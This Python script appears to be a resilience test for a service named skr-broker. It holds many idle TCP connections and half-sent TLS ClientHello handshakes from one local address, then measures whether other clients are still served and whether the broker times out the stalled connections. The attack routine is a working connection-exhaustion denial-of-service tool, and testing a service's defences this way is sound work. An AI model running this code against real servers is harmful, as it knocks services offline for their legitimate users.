"""Connection exhaustion against skr-broker from one client address.

Usage: hold_connections.py HOST PORT CA_PEM KEY_ID N_IDLE N_HANDSHAKE TIMEOUT

First measures GET /healthz and POST /v1/challenge from 127.0.0.2 with no
attack (the baseline of this run).  Then opens N_IDLE idle TCP connections
and N_HANDSHAKE connections that send half a TLS ClientHello and stall, all
from 127.0.0.1, and keeps them; measures the same calls from 127.0.0.2
(another client) and /healthz from 127.0.0.1 (the attacker's own address),
and after TIMEOUT + 2 seconds counts how many of the attacker's connections
the broker still holds open.  Prints one JSON object.
"""
import json, socket, ssl, statistics, sys, time

host, port, ca, key_id = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
n_idle, n_hs, timeout = int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
ctx = ssl.create_default_context(cafile=ca)

# The first 60 bytes of a TLS 1.2 ClientHello record: a handshake that never completes.
HALF_HELLO = bytes.fromhex("16030100c4010000c00303") + bytes(49)


def attack():
    held = []
    for i in range(n_idle + n_hs):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.settimeout(5)
        try:
            s.connect((host, port))
            if i >= n_idle:
                s.sendall(HALF_HELLO)
        except OSError:
            s.close()
            continue
        held.append(s)
    return held


def is_open(s):
    """Whether the broker still holds s (what it sent before closing, e.g. an alert, is read)."""
    s.setblocking(False)
    try:
        while s.recv(4096):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def still_open(socks):
    return sum(is_open(s) for s in socks)


def request(source, method, path, body=None):
    """One request on a new TLS connection: (seconds, status or error text)."""
    t0 = time.monotonic()
    try:
        raw = socket.create_connection((host, port), timeout=15, source_address=(source, 0))
        with ctx.wrap_socket(raw, server_hostname=host) as s:
            data = json.dumps(body).encode() if body is not None else b""
            s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
                      f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
                      .encode() + data)
            resp = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                resp += chunk
        status = resp.split(b" ", 2)[1].decode() if resp.startswith(b"HTTP/") else "no answer"
    except (OSError, ssl.SSLError) as e:
        status = type(e).__name__
    return time.monotonic() - t0, status


def probe(source, method, path, body, n):
    res = [request(source, method, path, body) for _ in range(n)]
    ok = [t for t, st in res if st == "200"]
    return {"ok": len(ok), "of": n,
            "median_ms": round(statistics.median(ok) * 1000, 1) if ok else None,
            "max_ms": round(max(t for t, _ in res) * 1000, 1),
            "statuses": sorted(set(st for _, st in res))}


baseline = {"healthz_other_client": probe("127.0.0.2", "GET", "/healthz", None, 20),
            "challenge_other_client": probe("127.0.0.2", "POST", "/v1/challenge",
                                            {"key_id": key_id}, 10)}
held = attack()
time.sleep(1)
report = {"attempted": n_idle + n_hs, "connected": len(held), "held_after_1s": still_open(held),
          "baseline": baseline}
report["healthz_other_client"] = probe("127.0.0.2", "GET", "/healthz", None, 20)
report["challenge_other_client"] = probe("127.0.0.2", "POST", "/v1/challenge",
                                         {"key_id": key_id}, 10)
report["healthz_attacker_address"] = probe("127.0.0.1", "GET", "/healthz", None, 3)
time.sleep(timeout + 2)
report["held_after_timeout"] = still_open(held)
report["healthz_attacker_after_timeout"] = probe("127.0.0.1", "GET", "/healthz", None, 3)
for s in held:
    s.close()
print(json.dumps(report))
